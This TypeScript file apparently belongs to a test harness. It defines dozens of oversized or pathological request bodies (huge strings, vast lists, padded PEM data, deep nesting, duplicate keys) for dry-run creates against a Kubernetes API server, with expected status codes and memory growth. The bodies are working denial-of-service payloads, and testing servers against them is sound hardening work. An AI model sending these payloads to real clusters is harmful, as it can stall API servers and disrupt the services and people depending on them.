import type { Attack } from "./attacks.ts";

type Content = Readonly<Record<string, unknown>>;

const many = <T>(count: number, item: (index: number) => T): T[] => Array.from({ length: count }, (_, at) => item(at));
const list = (count: number, prefix: string) => many(count, (at) => `${prefix}${at}`);

/** A dry-run create of one object with one place enlarged to the size at which it was expensive. */
function grown(name: string, [path, apiVersion, kind]: readonly [string, string, string], content: Content): Attack {
  const body = JSON.stringify({ apiVersion, kind, metadata: { name: "x" }, ...content });
  return { name: `${kind}: ${name}`, path: `${path}?dryRun=All`, body, code: 422, growthMb: 400 };
}

const POD = ["/api/v1/namespaces/default/pods", "v1", "Pod"] as const;
const SERVICE = ["/api/v1/namespaces/default/services", "v1", "Service"] as const;
const QUOTA = ["/api/v1/namespaces/default/resourcequotas", "v1", "ResourceQuota"] as const;
const VOLUME = ["/api/v1/persistentvolumes", "v1", "PersistentVolume"] as const;
const CSI_NODE = ["/apis/storage.k8s.io/v1/csinodes", "storage.k8s.io/v1", "CSINode"] as const;
const CRON_JOB = ["/apis/batch/v1/namespaces/default/cronjobs", "batch/v1", "CronJob"] as const;

const certificates = "/apis/certificates.k8s.io";
const REQUEST = [
  `${certificates}/v1/certificatesigningrequests`,
  "certificates.k8s.io/v1",
  "CertificateSigningRequest",
] as const;
const BUNDLE = [
  `${certificates}/v1beta1/clustertrustbundles`,
  "certificates.k8s.io/v1beta1",
  "ClusterTrustBundle",
] as const;
const SLICE = [
  "/apis/discovery.k8s.io/v1/namespaces/default/endpointslices",
  "discovery.k8s.io/v1",
  "EndpointSlice",
] as const;

const REVIEW = [
  "/apis/authorization.k8s.io/v1/subjectaccessreviews",
  "authorization.k8s.io/v1",
  "SubjectAccessReview",
] as const;

const admission = "/apis/admissionregistration.k8s.io/v1";
const WEBHOOKS = [
  `${admission}/validatingwebhookconfigurations`,
  "admissionregistration.k8s.io/v1",
  "ValidatingWebhookConfiguration",
] as const;
const POLICY = [
  `${admission}/validatingadmissionpolicies`,
  "admissionregistration.k8s.io/v1",
  "ValidatingAdmissionPolicy",
] as const;

const pod = (spec: Content) => ({ spec: { containers: [{ name: "c", image: "i" }], ...spec } });
const volume = (source: Content) => pod({ volumes: [{ name: "v", ...source }] });
const container = (content: Content) => pod({ containers: [{ name: "c", image: "i", ...content }] });
const cron = (schedule: string) => {
  const template = { spec: { restartPolicy: "Never", containers: [{ name: "c", image: "i" }] } };
  return { spec: { schedule, jobTemplate: { spec: { template } } } };
};
const drivers = (...all: readonly Content[]) => ({ spec: { drivers: all } });
const request = (spec: Content) => ({
  spec: { signerName: "a.b/c", usages: ["client auth"], request: "eA==", ...spec },
});
const encoded = (text: string) => Buffer.from(text).toString("base64");
const policy = (rule: Content) => {
  const all = { apiGroups: [""], apiVersions: ["v1"], operations: ["*"], resources: ["pods"] };
  return {
    spec: { matchConstraints: { resourceRules: [{ ...all, ...rule }] }, validations: [{ expression: "true" }] },
  };
};
const webhook = (content: Content) => {
  const all = {
    name: "a.b.c",
    sideEffects: "None",
    admissionReviewVersions: ["v1"],
    clientConfig: { url: "https://a" },
  };
  return { webhooks: [{ ...all, ...content }] };
};

const SPACES = `-----BEGIN X${" ".repeat(600_000)}x-----\n`;
const BEGINS = "-----BEGIN X-----\n".repeat(60_000);

/** A ConfigMap with duplicate keys, nested below long names. */
function duplicates(pairs: number, depth: number, keyLength: number): string {
  const open = `{"${"k".repeat(keyLength)}":`.repeat(depth);
  const inner = `{${'"a":1,"a":2,'.repeat(pairs)}"b":1}`;
  return `{"apiVersion":"v1","kind":"ConfigMap","metadata":{"name":"x"},"x":${open}${inner}${"}".repeat(depth)}}`;
}
const CONFIG_MAPS = "/api/v1/namespaces/default/configmaps?dryRun=All";

/** A CustomResourceDefinition with a duplicate, an unknown field and many others below a long key. */
function definition(keyLength: number, count: number): string {
  const fields = list(count, "k").map((name) => `"${name}":{"description":""}`);
  const schema = `{"properties":{"${"k".repeat(keyLength)}":{"properties":{${fields.join(",")},"a":{"nullable":true,"nullable":true,"x":1}}}}}`;
  return `{"apiVersion":"apiextensions.k8s.io/v1","kind":"CustomResourceDefinition","metadata":{"name":"x"},"spec":{"versions":[{"schema":{"openAPIV3Schema":${schema}}}]}}`;
}

/** Bodies below 3 MB that blocked the server for seconds: a value or a list was scanned repeatedly. */
export const costlyBodies: readonly Attack[] = [
  grown("clusterIP of zeros", SERVICE, { spec: { clusterIP: `${"0".repeat(2_500_000)}x`, ports: [{ port: 80 }] } }),
  grown("loadBalancerSourceRanges of zeros", SERVICE, {
    spec: { type: "LoadBalancer", loadBalancerSourceRanges: [`${"0".repeat(2_500_000)}x/8`], ports: [{ port: 80 }] },
  }),
  grown("topologyKeys", CSI_NODE, drivers({ name: "d.example.com", nodeID: "", topologyKeys: list(95_000, "k") })),
  grown("drivers", CSI_NODE, drivers(...many(32_000, (at) => ({ name: `d${at}.example.com`, nodeID: "" })))),
  {
    ...grown("admissionReviewVersions", WEBHOOKS, webhook({ admissionReviewVersions: list(95_000, "v") })),
    code: 201,
  },
  grown("usages", REQUEST, request({ usages: list(95_000, "usage ") })),
  grown("schedule of digits", CRON_JOB, cron(`@every ${"1".repeat(1_000_000)}`)),
  grown("schedule of hours", CRON_JOB, cron(`@every ${"1h".repeat(500_000)}x`)),
  grown("PEM with spaces", REQUEST, request({ request: encoded(SPACES) })),
  grown("PEM that begins often", REQUEST, request({ request: encoded(BEGINS) })),
  grown("PEM with spaces", BUNDLE, { spec: { trustBundle: SPACES } }),
  grown("PEM that begins often", BUNDLE, { spec: { trustBundle: BEGINS } }),
  grown(
    "fieldPath of brackets",
    POD,
    container({
      env: [{ name: "A", valueFrom: { fieldRef: { fieldPath: `metadata.labels${"['".repeat(600_000)}` } } }],
    }),
  ),
  {
    ...grown(
      "projected path of slashes",
      POD,
      volume({
        projected: {
          sources: [
            {
              configMap: {
                name: "a",
                items: [
                  { key: "k", path: `a${"/".repeat(1_000_000)}x` },
                  { key: "l", path: "b" },
                ],
              },
            },
          ],
        },
      }),
    ),
    code: 201,
  },
  grown("iSCSI names", POD, volume({ iscsi: { targetPortal: "a", iqn: "iqn.2020-01.a".repeat(80_000), lun: 0 } })),
  grown("iSCSI names", VOLUME, {
    spec: {
      capacity: { storage: "1Gi" },
      accessModes: ["ReadWriteOnce"],
      iscsi: { targetPortal: "a", iqn: "iqn.2020-01.a".repeat(80_000), lun: 0 },
    },
  }),
  grown("claims", POD, container({ resources: { claims: many(40_000, (at) => ({ name: `c${at}` })) } })),
  grown(
    "claims that are none of many",
    POD,
    pod({
      resourceClaims: many(15_000, (at) => ({ name: `r${at}`, resourceClaimName: "r" })),
      containers: [{ name: "c", image: "i", resources: { claims: many(20_000, (at) => ({ name: `c${at}` })) } }],
    }),
  ),
  {
    ...grown(
      "topologySpreadConstraints",
      POD,
      pod({
        topologySpreadConstraints: many(24_000, (at) => {
          return { maxSkew: 1, topologyKey: `k${at}`, whenUnsatisfiable: "DoNotSchedule" };
        }),
      }),
    ),
    code: 201,
  },
  grown("equal addresses", SLICE, {
    addressType: "IPv4",
    endpoints: [{ addresses: many(95_000, () => "10.0.0.1") }],
  }),
  { ...grown("resourceNames", POLICY, policy({ resourceNames: list(60_000, "n") })), code: 201 },
  {
    ...grown("empty containers", POD, { spec: { containers: many(830_000, () => ({})) } }),
    code: 413,
    says: /limit is 350000 values/,
    growthMb: 50,
  },
  {
    ...grown("empty conditions", POD, { status: { conditions: many(49_000, () => ({})) } }),
    code: 413,
    says: /limit is 3145728 with the fields that are always written/,
    growthMb: 100,
  },
  {
    ...grown("null conditions", POD, { status: { conditions: many(99_000, () => null) } }),
    code: 413,
    growthMb: 100,
  },
  { ...grown("deep lists", POD, { spec: "@" }), body: "[".repeat(1_250_000) + "]".repeat(1_250_000), code: 400 },
  grown("empty clusterIPs", SERVICE, { spec: { clusterIPs: many(95_000, () => ""), ports: [{ port: 80 }] } }),
  grown("empty ipFamilies", SERVICE, { spec: { ipFamilies: many(95_000, () => ""), ports: [{ port: 80 }] } }),
  {
    ...grown("nodePorts", SERVICE, {
      spec: { type: "NodePort", ports: many(30_000, (at) => ({ name: `p${at}`, port: at + 1 })) },
    }),
    code: 201,
  },
  {
    ...grown("scopes of many resources", QUOTA, {
      spec: {
        hard: Object.fromEntries(list(40_000, "a/k").map((name) => [name, "1"])),
        scopes: many(40_000, () => "BestEffort"),
      },
    }),
    code: 201,
  },
  grown("empty requirements", REVIEW, {
    spec: { user: "a", resourceAttributes: { labelSelector: { requirements: many(33_000, () => ({})) } } },
  }),
  {
    name: "many keys below a long path with one that stands twice",
    path: "/apis/apiextensions.k8s.io/v1/customresourcedefinitions?dryRun=All&fieldValidation=Strict",
    body: definition(900_000, 20_000),
    code: 400,
    says: /k\.properties\.a\.nullable\\", unknown field \\"spec/,
    growthMb: 150,
  },
  {
    name: "duplicate keys below long paths, refused",
    path: `${CONFIG_MAPS}&fieldValidation=Strict`,
    body: duplicates(20_000, 400, 1400),
    code: 400,
    growthMb: 400,
  },
  {
    name: "duplicate keys below long paths, warned of",
    path: CONFIG_MAPS,
    body: duplicates(20_000, 400, 1400),
    code: 201,
    growthMb: 400,
  },
];
